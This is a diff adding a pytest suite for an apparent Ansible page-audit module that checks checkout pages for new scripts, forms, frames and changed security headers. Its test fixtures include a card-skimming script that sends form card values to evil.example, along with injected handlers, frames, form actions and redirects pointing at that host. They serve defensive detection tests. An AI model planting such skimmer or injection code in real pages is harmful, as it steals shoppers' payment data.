@@ -1,0 +1,277 @@
+# SPDX-License-Identifier: GPL-3.0-or-later
+
+import gzip
+import json
+import typing as t
+from pathlib import Path
+
+import pytest
+from support.site import HTML, Page, Site
+
+from harness import Modules
+
+CHECKOUT = "<!doctype html>\n<title>Checkout</title>\n<script src=/shop.js></script>\n<script>let total = 12;</script>\n<form method=post></form>"
+SKIMMER = "<script>new Image().src='https://evil.example/?'+document.forms[0].card.value</script>"
+POLICY = ("Content-Security-Policy", "script-src 'self' 'nonce-abc'; frame-ancestors 'none'")
+AUTHORISED = {
+    "owner": "payments@example.com",
+    "justification": "card checkout",
+    "authorised_by": "j.doe",
+    "review_by": "2030-01-01",
+}
+
+
+@pytest.fixture
+def site() -> t.Iterator[Site]:
+    with Site().running() as site:
+        yield site
+
+
+def task(url: str, *, check: bool = False, **options: t.Any) -> dict[str, t.Any]:
+    pages = options.pop("pages", [{"url": url}])
+    audit = {"pages": pages, "baseline": [], **options}
+    return {"name": "Audit", "edgeops.observability.page_audit": audit, "check_mode": check}
+
+
+def kinds(result: t.Any) -> list[tuple[str, str | None]]:
+    return [(finding["kind"], finding["subject"]) for finding in result["findings"] if finding["kind"] != "unused"]
+
+
+def authorised(modules: Modules, url: str, **options: t.Any) -> list[dict[str, t.Any]]:
+    """Return the baseline that authorises a page as it is."""
+    result = modules.run(task(url, **options)).result
+    return [{**proposal, **AUTHORISED} for proposal in result["proposals"]]
+
+
+def test_proposals_authorise_a_page(modules: Modules, site: Site) -> None:
+    url = site.put("/checkout", CHECKOUT, POLICY, ("X-Frame-Options", "DENY"), ("X-Unrelated", "1"))
+    first = modules.run(task(url)).result
+    own = first["proposals"][0]
+    assert [kind for kind, _subject in kinds(first)] == ["page_new", "script_new", "inline_new", "form_new"]
+    assert (own["page"], own["headers"]) == (
+        url,
+        {"content-security-policy": "script-src 'self' 'nonce-*'; frame-ancestors 'none'", "x-frame-options": "DENY"},
+    )
+    assert (own["scripts"], own["forms"], own["owner"]) == ([site.url("/shop.js")], ["'self'"], None)
+    second = modules.run(task(url, baseline=first["proposals"])).result
+    assert kinds(second) == [("unjustified", own["name"])]
+    third = modules.run(task(url, baseline=[{**own, **AUTHORISED}])).result
+    assert (third["passed"], third["findings"], third["proposals"]) == (True, [], [])
+    (page,) = third["pages"]
+    assert (page["url"], page["final_url"], page["source"], page["status"], page["entry"]) == (
+        url,
+        url,
+        "fetch",
+        200,
+        own["name"],
+    )
+    assert page["headers"]["referrer-policy"] is None and "x-unrelated" not in page["headers"]
+    assert [(code["kind"], code["dynamic"], code["line"], code["extract"]) for code in page["inline"]] == [
+        ("script", False, 4, "let total = 12;")
+    ]
+    assert page["forms"] == [{"origin": site.origin, "line": 5}]
+
+
+CHANGES: dict[str, tuple[str, t.Any, tuple[str, str | None]]] = {
+    "skimmer": ("inline_new", CHECKOUT + SKIMMER, ("https://evil.example", "sha256-")),
+    "handler": ("inline_new", CHECKOUT + "<img src=x: onerror=steal()>", ("steal()", "sha256-")),
+    "frame": (
+        "frame_new",
+        CHECKOUT + "<iframe src=https://evil.example/pay></iframe>",
+        ("evil.example", "https://evil.example/pay"),
+    ),
+    "form": (
+        "form_new",
+        CHECKOUT.replace("method=post", "action=https://evil.example/x"),
+        ("evil.example", "https://evil.example"),
+    ),
+    "script": ("script_new", CHECKOUT + "<script src=//evil.example/s.js></script>", ("evil", "http://evil.example/s.js")),
+    "base": ("header_changed", CHECKOUT + "<base href=https://evil.example/>", ("base was added", "base")),
+    "refresh": (
+        "header_changed",
+        CHECKOUT + "<meta http-equiv=refresh content='0;url=//evil.example'>",
+        ("refresh", "meta:refresh"),
+    ),
+}
+
+
+@pytest.mark.parametrize("change", CHANGES)
+def test_what_is_added_is_found(modules: Modules, site: Site, change: str) -> None:
+    kind, html, (said, subject) = CHANGES[change]
+    url = site.put("/checkout", CHECKOUT, POLICY)
+    baseline = authorised(modules, url)
+    site.put("/checkout", html, POLICY)
+    result = modules.run(task(url, baseline=baseline, fail_on=["all"]), fails="gate").result
+    assert [each for each, _subject in kinds(result)] == [kind]
+    finding = next(each for each in result["findings"] if each["kind"] == kind)
+    assert said in finding["message"] and (finding["subject"] or "").startswith(subject or "")
+    assert f"1 {kind}" in result["msg"] and not result["passed"]
+
+
+def test_headers_are_compared_by_their_meaning(modules: Modules, site: Site) -> None:
+    url = site.put("/checkout", CHECKOUT, POLICY, ("Strict-Transport-Security", "max-age=100; includeSubDomains"))
+    baseline = authorised(modules, url)
+    same = ("content-security-POLICY", "Frame-Ancestors 'NONE';; script-src 'nonce-xyz'  'self';script-src *")
+    site.put("/checkout", CHECKOUT, same, ("Strict-Transport-Security", 'includesubdomains;max-age="100"'))
+    assert modules.run(task(url, baseline=baseline)).result["passed"]
+    site.put("/checkout", CHECKOUT, (POLICY[0] + "-Report-Only", POLICY[1]), ("Strict-Transport-Security", "max-age=1"))
+    result = modules.run(task(url, baseline=baseline)).result
+    found = {each["subject"]: each for each in result["findings"]}
+    assert set(found) == {"content-security-policy", "content-security-policy-report-only", "strict-transport-security"}
+    assert "only reported" in found["content-security-policy"]["message"]
+    site.put(
+        "/checkout",
+        CHECKOUT,
+        (POLICY[0], POLICY[1].replace("'self'", "'self' 'unsafe-inline'")),
+        ("Strict-Transport-Security", "max-age=100; includeSubDomains"),
+    )
+    (finding,) = modules.run(task(url, baseline=baseline)).result["findings"]
+    assert (finding["is"], finding["should_be"]) == ("script-src 'unsafe-inline'", None)
+
+
+def test_dynamic_code_is_authorised_by_its_shape(modules: Modules, site: Site) -> None:
+    numbers = iter(range(1000))
+
+    def page() -> Page:
+        return Page(CHECKOUT.replace("12", str(next(numbers))).encode(), (POLICY,))
+
+    site.pages["/checkout"] = page
+    url = site.url("/checkout")
+    first = modules.run(task(url)).result
+    (code,) = first["pages"][0]["inline"]
+    assert code["dynamic"] and code["shape"].startswith("shape-")
+    assert first["proposals"][0]["inline"] == [code["shape"]]
+    baseline = [{**first["proposals"][0], **AUTHORISED}]
+    assert modules.run(task(url, baseline=baseline)).result["passed"]
+
+
+UNREAD: dict[str, tuple[Page, str]] = {
+    "status": (Page(b"x", status=500), "its status is 500"),
+    "challenge": (Page(b"x", (("cf-mitigated", "challenge"),), status=403), "bot protection"),
+    "challenge 200": (Page(b"<p>x", (("cf-mitigated", "challenge"),)), "use|give the file as har"),
+    "type": (Page(b"<p>x", content_type="application/xhtml+xml"), "application/xhtml"),
+    "no type": (Page(b"<p>x", content_type=None), "names no type"),
+    "two types": (Page(b"<p>x", (("Content-Type", "text/plain"),)), "several types"),
+    "empty": (Page(b" \n"), "empty"),
+    "large": (Page(b"<p>" + b"x" * 70000), "larger than"),
+    "bomb": (Page(gzip.compress(b"<p>" + b"x" * 7000000), (("Content-Encoding", "gzip"),)), "larger than"),
+    "coding": (Page(b"<p>x", (("Content-Encoding", "br"),)), "not requested"),
+    "short": (Page(b"<p>x", (("Content-Length", "100"), ("Connection", "close"))), "cut"),
+    "to http": (Page(b"", (("Location", "http://shop.example/x"),), status=302), "plain http"),
+    "to user": (Page(b"", (("Location", "//user@127.0.0.1:1/"),), status=302), "user information"),
+    "for ever": (Page(b"x" * 9999999, (("Location", "/checkout"),), status=301), "more than 5 times"),
+    "encoding": (Page(b"<p>\x1b$B<script>", content_type="text/html"), "names no encoding"),
+    "replacement": (Page(b"<p>x", content_type="text/html; charset=iso-2022-kr"), "refuse to decode"),
+    "tags": (Page(b"<b>" * 20000), "more than"),
+}
+
+
+@pytest.mark.parametrize("why", UNREAD)
+def test_unread_page_is_a_finding(modules: Modules, site: Site, why: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    page, said = UNREAD[why]
+    monkeypatch.setattr("time.sleep", lambda seconds: None)
+    monkeypatch.setattr("ansible_collections.edgeops.observability.plugins.module_utils._pages.tree.MAX_TAGS", 10000)
+    site.pages["/checkout"] = page
+    arguments = task(site.url("/checkout"), max_bytes=65536, fail_on=["page_new"])
+    result = modules.run(arguments, fails="gate").result
+    (finding,) = [each for each in result["findings"] if each["kind"] == "page_unread"]
+    assert any(part in finding["message"] for part in said.split("|")), finding["message"]
+    assert not result["passed"] and result["proposals"] == []
+    assert result["pages"][0]["status"] is None and result["pages"][0]["inline"] == []
+
+
+def test_headers_of_the_request_go_to_one_origin(modules: Modules, site: Site) -> None:
+    secret = "Bearer c4nary-of-a-page"
+    with Site().running() as other:
+        other.put("/login", CHECKOUT)
+        site.pages["/checkout"] = Page(b"", (("Location", "/next"),), status=302)
+        site.pages["/next"] = Page(b"", (("Location", other.url("/login")),), status=307)
+        pages = [{"url": site.url("/checkout"), "request_headers": {"Authorization": secret}}]
+        result = modules.run(task("", pages=pages), secrets=[secret]).result
+    assert ("redirected", other.url("/login")) in kinds(result)
+    assert all(headers.get("authorization") == secret for _method, _path, headers in site.requests)
+    assert all("authorization" not in headers for _method, _path, headers in other.requests)
+    for _method, _path, headers in [*site.requests, *other.requests]:
+        assert "cookie" not in headers and "referer" not in headers
+    assert {method for method, _path, _headers in [*site.requests, *other.requests]} == {"GET"}
+
+
+def test_evidence_does_not_change_by_itself(modules: Modules, site: Site, tmp_path: Path, zone: str) -> None:
+    numbers = iter(range(1000))
+    site.pages["/checkout"] = lambda: Page(
+        CHECKOUT.replace("12", str(next(numbers))).encode(), (("Content-Security-Policy", f"script-src 'nonce-{next(numbers)}'"),)
+    )
+    folder = tmp_path / "evidence"
+    options = {"evidence_dir": str(folder), "pages": [{"url": site.url("/checkout")}]}
+    runs = [task("", check=check, at=f"2026-11-0{day}T00:00:00Z", **options) for day, check in enumerate([True, False, True], 1)]
+    results = [outcome.result for outcome in modules.run(runs).ours]
+    lines = [json.loads(line) for line in (folder / f"{zone}.pages.jsonl").read_text().splitlines()]
+    assert [(line["seq"], line["digest"], line["kind"]) for line in lines] == [
+        (number, result["evidence"]["head"], "pages") for number, result in enumerate(results, 1)
+    ]
+    assert "pages" in lines[0] and [line["pages_same_as"] for line in lines[1:]] == [1, 1]
+    verified = modules.run(
+        {"name": "Verify", "edgeops.observability.script_evidence_info": {"evidence_dir": str(folder)}}, defaults={}
+    ).result
+    assert verified["valid"] and [(zone["kind"], zone["records"]) for zone in verified["zones"]] == [("pages", 3)]
+
+
+def test_recording_shows_what_a_tag_manager_adds(modules: Modules, tmp_path: Path) -> None:
+    def entry(url: str, kind: str, text: str | None, mime: str = HTML, **more: t.Any) -> dict[str, t.Any]:
+        content = {"mimeType": mime, **({} if text is None else {"text": text})}
+        response = {"status": 200, "headers": [{"name": "Content-Type", "value": mime}], "content": content, **more}
+        return {
+            "startedDateTime": "2026-11-01T00:00:00Z",
+            "pageref": "p",
+            "_resourceType": kind,
+            "request": {"url": url},
+            "response": response,
+        }
+
+    page = "https://shop.example.com/checkout"
+    entries = [
+        entry(page, "document", CHECKOUT + "<script>f('secret of a customer')</script>"),
+        entry("https://tags.example/t.js", "script", "", "text/javascript"),
+        entry("https://frames.example/f", "document", ""),
+        entry("https://shop.example.com/pixel.png", "image", "", "image/png"),
+    ]
+    path = tmp_path / "checkout.har"
+
+    def audit(**options: t.Any) -> t.Any:
+        path.write_text(json.dumps({"log": {"entries": entries}}))
+        return modules.run(task("", pages=[{"url": page, "har": str(path)}], **{"at": "2026-11-02T00:00:00Z", **options})).result
+
+    result = audit()
+    assert ("script_new", "https://tags.example/t.js") in kinds(result) and ("frame_new", "https://frames.example/f") in kinds(
+        result
+    )
+    assert not any("pixel" in str(subject) for _kind, subject in kinds(result))
+    assert "secret" not in json.dumps(result) and result["pages"][0]["recorded_at"] == "2026-11-01T00:00:00Z"
+    assert "page_unread" in [kind for kind, _subject in kinds(audit(at="2026-11-09T00:00:00Z"))]
+    del entries[0]["response"]["content"]["text"]
+    assert [kind for kind, _subject in kinds(audit())] == ["page_unread"]
+
+
+def test_invalid_options_send_nothing(modules: Modules, site: Site) -> None:
+    url = site.put("/checkout", CHECKOUT)
+    entry = {"name": "a", "page": url}
+    refused: dict[str, dict[str, t.Any]] = {
+        "pages[0].url: 'ftp://x/' is not a URL": {"pages": [{"url": "ftp://x/"}]},
+        "is not https://, which is required": {"pages": [{"url": "http://shop.example/"}]},
+        "must not have user information": {"pages": [{"url": "https://u:p@shop.example/"}]},
+        "is already the page of pages[0]": {"pages": [{"url": url}, {"url": url}]},
+        "did you mean 'x-frame-options'": {"baseline": [{**entry, "headers": {"x-frame-option": "DENY"}}]},
+        "has the directive 'script-src' twice": {
+            "baseline": [{**entry, "headers": {"content-security-policy": "script-src a; script-src b"}}]
+        },
+        "is already the name of baseline[0]": {"baseline": [entry, entry]},
+        "fit 'http://127.0.0.1": {"baseline": [entry, {**entry, "name": "b"}]},
+        "is not an origin": {"baseline": [{**entry, "forms": ["https://pay.example/x"]}]},
+        "is neither sha256- nor shape-": {"baseline": [{**entry, "inline": ["abc"]}]},
+        "'fetches': 6|fetches: 6": {"fetches": 6},
+    }
+    tasks = [{**task(url, **options), "name": text, "ignore_errors": True} for text, options in refused.items()]
+    report = modules.run(tasks, fails="invalid_option")
+    for outcome in report.ours:
+        assert any(text in outcome.result["msg"] for text in outcome.name.split("|")), outcome.result["msg"]
+    assert site.requests == [] and len(report.failures) == len(refused)
